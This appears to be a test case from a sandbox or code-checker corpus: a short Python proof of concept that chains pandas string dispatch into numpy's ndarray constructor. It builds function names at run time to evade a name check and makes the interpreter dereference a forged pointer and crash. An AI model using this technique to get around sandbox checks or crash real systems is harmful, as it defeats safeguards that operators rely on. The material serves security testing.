# source: pandas 1.5.3 SeriesGroupBy.filter (str func -> getattr(group, func)(*args)) chained into Series.agg -> core/apply.py _try_aggregate_string_function (`getattr(np, arg)(obj, *args)`); numpy ndarray(shape, dtype, buffer)
# family: pandas string dispatch not on the check's list, chained into agg's numpy fallback by a name built at run time; array over bytes the script wrote
# goal: builds np.ndarray(group, "O", bytes) (object pointers taken from the script's bytes) and dereferences 0x4141414141414141: an out-of-bounds memory read (SIGSEGV, exit 139)
import pandas as pd

df = pd.DataFrame({"k": [1], "v": [1]})
agg = "".join(["a", "gg"])
nd = "".join(["nd", "array"])
buf = bytes([0x41] * 8)
print("before: object array over the script's bytes", flush=True)
try:
    # group.agg("ndarray", 0, "O", buf) -> np.ndarray(group, "O", buf); filter then tests bool() of its element
    df.groupby("k").v.filter(agg, True, nd, 0, "O", buf)
except Exception as e:
    print(type(e).__name__, e)
print("not reached")
